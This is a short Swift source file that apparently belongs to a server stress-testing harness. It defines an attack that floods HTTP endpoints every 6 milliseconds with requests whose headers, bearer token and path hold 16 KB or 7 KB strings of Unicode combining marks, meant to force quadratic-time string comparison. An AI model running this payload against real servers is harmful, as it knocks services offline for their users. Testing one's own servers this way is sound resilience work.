import NIOCore

/// Attack 2: strings that take quadratic time to compare, in the heads of requests without a key.
struct QuadraticHeaders: Attack {
    let name = "2, quadratic headers"

    /// The sizes in bytes. The name and the value of a field have at most 16 KiB.
    private static let sizes = [16_000, 7_000]

    func start(by attacker: Attacker) async throws {
        let requests = Self.sizes.flatMap { size in
            let marks = String.combiningMarks(bytes: size)
            return [
                ByteBuffer.request("GET", "/errors", fields: ["If-None-Match": marks]),
                ByteBuffer.request("GET", "/v1/products", fields: ["Authorization": "Bearer \(marks)"]),
                ByteBuffer.request("GET", "/errors", fields: ["Connection": marks]),
                ByteBuffer.request("GET", "/v1/\(marks)"),
            ]
        }
        attacker.send(requests, every: .milliseconds(6), closing: .whenAnswered)
    }
}
